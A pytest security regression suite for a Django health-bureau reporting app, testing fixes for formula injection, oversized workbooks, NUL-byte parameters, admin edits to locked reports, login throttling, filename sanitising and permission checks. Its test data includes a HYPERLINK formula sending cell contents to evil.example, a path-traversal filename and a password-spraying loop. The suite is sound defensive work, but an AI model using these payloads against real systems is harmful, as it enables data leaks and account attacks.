"""Issue 18, the findings of the attack run: one test (or a few) per finding, each failing on the
code before the fix. The hostile-input helpers are in tests/security/hostile.py."""

from __future__ import annotations

import csv
import io
import zipfile
from urllib.parse import quote

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core import mail
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from healthreports.downloads import content_disposition
from indicators.excel import SpreadsheetError, template_build, upload_parse
from reports.models import AuditEvent, ExportJob, Membership, Report
from reports.services import ServiceError
from reports.services.editing import section_add, section_save
from reports.text import clean_text
from tests.factories import (
    BureauFactory,
    DefinitionFactory,
    MembershipFactory,
    PeriodFactory,
    ReportFactory,
    SectionFactory,
    ValueFactory,
)

from .hostile import report_fingerprint

pytestmark = pytest.mark.django_db

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def county():
    """A county under a city: a clerk of the county, a reviewer of the city."""
    city = BureauFactory(code="519900", name="测试市卫生健康委员会", level="city")
    county = BureauFactory(code="519901", name="测试县卫生健康局", parent=city)
    clerk = MembershipFactory(bureau=county, role=Membership.Role.STAFF, user__username="t_clerk").user
    reviewer = MembershipFactory(bureau=city, role=Membership.Role.REVIEWER, user__username="t_reviewer").user
    return city, county, clerk, reviewer


# ----- 1. spreadsheet formula injection ------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_template_notes_are_text_not_formulas(county, text):
    _city, bureau, _clerk, _reviewer = county
    report = ReportFactory(bureau=bureau)
    ValueFactory(report=report, definition=DefinitionFactory(slug="beds"), value=3, note=text)
    ws = load_workbook(io.BytesIO(template_build(report=report))).active
    notes = [row[6] for row in ws.iter_rows(min_row=2) if row[0].value == "beds"]
    assert notes and notes[0].data_type == "s"  # a string cell, never "f" (formula)
    assert notes[0].value.lstrip("'") == clean_text(text)  # newlines normalised at every exit (issue 12)


def _export(client, bureau, fmt):
    query = {"bureau": bureau.code, "format": fmt, "year_from": 2025, "year_to": 2025}
    return client.get(reverse("indicators:export"), query)


@pytest.mark.parametrize("text", INJECTIONS[:4])
def test_analysis_export_escapes_formulas(county, login, text):
    city, bureau, _clerk, reviewer = county
    bureau.name = text
    bureau.save()
    period = PeriodFactory(year=2025)
    report = ReportFactory(bureau=bureau, period=period, state=Report.State.SUBMITTED)
    ValueFactory(report=report, definition=DefinitionFactory(slug="beds"), value=-5)
    client = login(reviewer)
    response = client.get(
        reverse("indicators:export"), {"bureau": city.code, "format": "csv", "year_from": 2025, "year_to": 2025}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + text  # the bureau name, as text
    assert rows[1][4] == "-5"  # numbers stay numbers
    response = client.get(
        reverse("indicators:export"), {"bureau": city.code, "format": "xlsx", "year_from": 2025, "year_to": 2025}
    )
    ws = load_workbook(io.BytesIO(response.content)).active
    cell = ws.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value.lstrip("'") == text
    assert ws.cell(row=2, column=5).value == -5


# ----- 2. limits on what is inflated and parsed; sections and characters per report ---------------


def _xlsx_with_shared_strings(count: int) -> bytes:
    """A workbook whose shared-strings part holds `count` distinct strings (compresses ~5:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        items = "".join(f"<si><t>字符串{i:08d}-{i * 7919 % 1000003:07d}</t></si>" for i in range(count))
        zf.writestr("xl/sharedStrings.xml", f'<sst count="{count}" uniqueCount="{count}">{items}</sst>')
        zf.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData/></worksheet>")
    return buf.getvalue()


def test_a_huge_shared_strings_part_is_refused_before_parsing(county):
    _city, bureau, _clerk, _reviewer = county
    report = ReportFactory(bureau=bureau)
    data = _xlsx_with_shared_strings(120_000)  # ~5 MB of XML, far within the upload size
    assert len(data) < settings.MAX_UPLOAD_BYTES
    with pytest.raises(SpreadsheetError) as error:
        upload_parse(report=report, data=data)
    assert "过大" in str(error.value) or "too large" in str(error.value)


def test_sections_per_report_are_limited(county, settings):
    settings.REPORT_MAX_SECTIONS = 3
    _city, bureau, clerk, _reviewer = county
    report = ReportFactory(bureau=bureau)
    for _ in range(3):
        section_add(report=report, acting_user=clerk, heading="一项工作")
    before = report_fingerprint(report.pk)
    with pytest.raises(ServiceError) as error:
        section_add(report=report, acting_user=clerk, heading="再一项")
    assert "3" in str(error.value)
    assert report_fingerprint(report.pk) == before


def test_characters_per_report_are_limited(county, settings):
    settings.REPORT_MAX_CHARS = 1000
    _city, bureau, clerk, _reviewer = county
    report = ReportFactory(bureau=bureau)
    first = SectionFactory(report=report, body="卫" * 600)
    second = SectionFactory(report=report, body="")
    before = report_fingerprint(report.pk)
    with pytest.raises(ServiceError) as error:
        section_save(section=second, acting_user=clerk, heading=second.heading, body="健" * 500, version=1)
    assert "1000" in str(error.value).replace(",", "")
    assert report_fingerprint(report.pk) == before
    section_save(section=second, acting_user=clerk, heading=second.heading, body="健" * 400, version=1)
    assert first.pk


# ----- 3. NUL bytes and bad parameters are a 400 page ------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/indicators/rollup/?bureau=%00",
        "/indicators/rollup/?period=2025%00",
        "/indicators/beds/?bureau=%00",
        "/indicators/beds/?approved=%00",
        "/indicators/export/?bureau=%00&format=csv",
    ],
)
def test_a_nul_in_a_query_parameter_is_a_400(county, login, url):
    DefinitionFactory(slug="beds")
    response = login(county[3]).get(url)
    assert response.status_code == 400
    assert "请求" in response.content.decode()  # the Chinese 400 page


@pytest.mark.parametrize(
    "query",
    ["action=%00", "actor__id__exact=%00", "bureau__id__exact=%00", "created_at__gte=%00", "q=%00", "o=%00"],
)
def test_a_nul_in_an_admin_filter_is_a_400(demo, login, query):
    response = login("admin").get(f"/admin/reports/auditevent/?{query}")
    assert response.status_code == 400


# ----- 4. the admin refuses content for an approved report ------------------------------------------


@pytest.fixture
def approved_and_draft(county):
    _city, bureau, _clerk, _reviewer = county
    approved = ReportFactory(bureau=bureau, period=PeriodFactory(year=2024))
    section = SectionFactory(report=approved, heading="已批准的内容")
    Report.objects.filter(pk=approved.pk).update(state=Report.State.APPROVED)
    draft = ReportFactory(bureau=bureau, period=PeriodFactory(year=2025))
    draft_section = SectionFactory(report=draft, heading="草稿内容")
    return approved, section, draft, draft_section


def _admin():
    user = get_user_model().objects.create_superuser("su18", "su18@example.org", "x-Strong-pass-18")
    client = Client()
    client.force_login(user)
    return client


def test_admin_adding_a_section_to_an_approved_report_is_refused(approved_and_draft):
    approved, _section, _draft, _ = approved_and_draft
    before = report_fingerprint(approved.pk)
    response = _admin().post(
        reverse("admin:reports_section_add"),
        {"report": approved.pk, "position": 9, "kind": "other", "heading": "偷偷加入", "body": "x", "version": 1},
        follow=True,
    )
    assert response.status_code == 200
    assert "已审核通过并锁定" in response.content.decode()  # the lock's message, not a 500
    assert report_fingerprint(approved.pk) == before


def test_admin_moving_a_section_into_an_approved_report_is_refused(approved_and_draft):
    approved, _section, draft, draft_section = approved_and_draft
    before = report_fingerprint(approved.pk), report_fingerprint(draft.pk)
    response = _admin().post(
        reverse("admin:reports_section_change", args=[draft_section.pk]),
        {"report": approved.pk, "position": 1, "kind": "other", "heading": "移过去", "body": "", "version": 1},
        follow=True,
    )
    assert response.status_code == 200 and "已审核通过并锁定" in response.content.decode()
    assert (report_fingerprint(approved.pk), report_fingerprint(draft.pk)) == before


def test_admin_reverting_history_into_an_approved_report_is_refused(approved_and_draft):
    approved, _section, draft, draft_section = approved_and_draft
    draft_section.heading = "改过"
    draft_section.save()
    first = draft_section.history.order_by("history_id").first()
    # The section's old version belonged to the draft; now point the history at the approved report,
    # as when a section was moved out of a report that was approved later.
    draft_section.history.filter(history_id=first.history_id).update(report_id=approved.pk)
    before = report_fingerprint(approved.pk), report_fingerprint(draft.pk)
    url = reverse("admin:reports_section_simple_history", args=[draft_section.pk, first.history_id])
    response = _admin().post(
        url,
        {"report": approved.pk, "position": 1, "kind": "other", "heading": "草稿内容", "body": "", "version": 1},
        follow=True,
    )
    assert response.status_code == 200 and "已审核通过并锁定" in response.content.decode()
    assert (report_fingerprint(approved.pk), report_fingerprint(draft.pk)) == before


# ----- 5. and 6. log-in throttling per address, the client address behind the proxy ----------------


@pytest.fixture
def axes_on(settings):
    settings.AXES_ENABLED = True
    from axes.handlers.proxy import AxesProxyHandler

    AxesProxyHandler.implementation = None
    yield settings
    AxesProxyHandler.implementation = None


def _login(client, username, password, ip="10.9.9.9", **extra):
    return client.post(reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip, **extra)


def test_spraying_across_usernames_from_one_address_locks_that_address(demo, axes_on):
    client = Client()
    usernames = [f"nobody{i}" for i in range(10)]
    statuses = [_login(client, name, f"guess-{n}").status_code for n in range(4) for name in usernames]
    assert 429 in statuses  # the address is locked before the 40 guesses are through
    response = _login(client, "xuanzhou_staff", "another-guess")
    assert response.status_code == 429
    page = response.content.decode()
    assert "请于" in page and "后再试" in page  # when they may try again
    assert AuditEvent.objects.filter(action="lockout").exists()
    # Another address is not affected.
    assert _login(Client(), "xuanzhou_staff", "jiankang-2026", ip="10.9.9.10").status_code == 302


def test_a_bureau_administrator_unlocks_a_clerk(demo, axes_on):
    from axes.models import AccessAttempt

    clerk = get_user_model().objects.get(username="xuanzhou_staff")
    boss = MembershipFactory(
        bureau=Membership.objects.filter(user=clerk).first().bureau, role=Membership.Role.ADMIN
    ).user
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _login(Client(), "xuanzhou_staff", "wrong")
    assert _login(Client(), "xuanzhou_staff", "jiankang-2026").status_code == 429
    client = Client()
    client.force_login(boss)
    response = client.post(reverse("accounts:user_unlock", args=[clerk.pk]), follow=True)
    assert response.status_code == 200
    assert not AccessAttempt.objects.filter(username="xuanzhou_staff").exists()
    assert AuditEvent.objects.filter(action="unlock", detail__username="xuanzhou_staff").exists()
    assert _login(Client(), "xuanzhou_staff", "jiankang-2026").status_code == 302


def test_audit_and_axes_record_the_same_client_address_behind_the_proxy(demo, axes_on):
    from axes.models import AccessAttempt

    axes_on.BEHIND_PROXY = True
    _login(Client(), "xuanzhou_staff", "wrong", ip="127.0.0.1", HTTP_X_REAL_IP="203.0.113.9")
    event = AuditEvent.objects.get(action="login_failed")
    assert event.detail["ip"] == "203.0.113.9"
    assert AccessAttempt.objects.get(username="xuanzhou_staff").ip_address == "203.0.113.9"


# ----- 7. Cache-Control and download file names ------------------------------------------------------


def test_authenticated_pages_and_downloads_are_not_cached(county, login):
    city, bureau, clerk, _reviewer = county
    client = login(clerk)
    for response in (client.get(reverse("home")), _export(client, bureau, "csv")):
        assert response.status_code == 200
        cache = response["Cache-Control"]
        assert "private" in cache and "no-store" in cache


def test_download_names_are_sanitised(county, login):
    _city, bureau, clerk, _reviewer = county
    report = ReportFactory(bureau=bureau, title="../../etc/工作总结\\报告")
    response = login(clerk).get(reverse("report_docx", args=[report.pk]))
    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert header.startswith("attachment;") and "filename*=utf-8''" in header
    for bad in ("/", "\\", "\x07", "\r", "\n", ".."):
        assert bad not in header.split("filename*=")[0] and bad not in header
    assert "%E5%B7%A5%E4%BD%9C" in header  # 工作, percent-encoded (RFC 5987)
    # Control and format characters (a bureau name in a batch ZIP's name) never reach the header.
    header = content_disposition("宣州\x07区\u202e卫健委\r\n2025.zip")
    assert header == "attachment; filename=\"2025.zip\"; filename*=utf-8''" + quote("宣州 区 卫健委 2025.zip")


# ----- 8. passwords; the export page checks permission every time ----------------------------------


def test_every_user_can_change_their_password(county):
    _city, _bureau, clerk, _reviewer = county
    clerk.set_password("Old-pass-2026")
    clerk.save()
    client = Client()
    client.force_login(clerk)
    assert client.get(reverse("password_change")).status_code == 200
    response = client.post(
        reverse("password_change"),
        {"old_password": "Old-pass-2026", "new_password1": "Xin-mima-2026!", "new_password2": "Xin-mima-2026!"},
    )
    assert response.status_code == 302
    clerk.refresh_from_db()
    assert clerk.check_password("Xin-mima-2026!")
    assert AuditEvent.objects.filter(action="password_change", actor=clerk).exists()


def test_a_bureau_administrator_resets_a_clerks_password(county):
    _city, bureau, clerk, reviewer = county
    boss = MembershipFactory(bureau=bureau, role=Membership.Role.ADMIN, user__username="t_boss").user
    client = Client()
    client.force_login(boss)
    url = reverse("accounts:user_password", args=[clerk.pk])
    response = client.post(url, {"new_password1": "Reset-mima-2026!", "new_password2": "Reset-mima-2026!"})
    assert response.status_code == 302
    clerk.refresh_from_db()
    assert clerk.check_password("Reset-mima-2026!")
    # Not a reviewer of the parent bureau, and not anybody outside the administrator's bureaus.
    assert client.post(reverse("accounts:user_password", args=[reviewer.pk]), {}).status_code == 404
    stranger = MembershipFactory(role=Membership.Role.STAFF).user
    assert client.get(reverse("accounts:user_password", args=[stranger.pk])).status_code == 404


def test_mail_based_reset_where_mail_is_configured(county, settings):
    _city, _bureau, clerk, _reviewer = county
    settings.PASSWORD_RESET_BY_MAIL = False
    assert Client().get(reverse("password_reset")).status_code == 404
    settings.PASSWORD_RESET_BY_MAIL = True
    response = Client().post(reverse("password_reset"), {"email": clerk.email})
    assert response.status_code == 302
    assert len(mail.outbox) == 1 and "/accounts/reset/" in mail.outbox[0].body


def test_the_export_page_checks_permission_on_every_view(county):
    city, bureau, _clerk, reviewer = county
    period = PeriodFactory(year=2025)
    ReportFactory(bureau=bureau, period=period, state=Report.State.APPROVED, title="机密的标题")
    job = ExportJob.objects.create(requested_by=reviewer, bureau=city, period=period)
    client = Client()
    client.force_login(reviewer)
    assert "机密的标题" in client.get(reverse("export_detail", args=[job.pk])).content.decode()
    Membership.objects.filter(user=reviewer).delete()  # the reviewer lost the role
    client = Client()
    client.force_login(reviewer)
    response = client.get(reverse("export_detail", args=[job.pk]))
    assert response.status_code in (403, 404)
    assert "机密的标题" not in response.content.decode()
    assert city.name not in client.get(reverse("export_list")).content.decode()


def test_the_log_in_page_offers_the_mail_reset_only_where_mail_is_configured(db, settings):
    settings.PASSWORD_RESET_BY_MAIL = False
    assert reverse("password_reset") not in Client().get(reverse("login")).content.decode()
    settings.PASSWORD_RESET_BY_MAIL = True
    page = Client().get(reverse("login")).content.decode()
    assert reverse("password_reset") in page and "忘记密码" in page
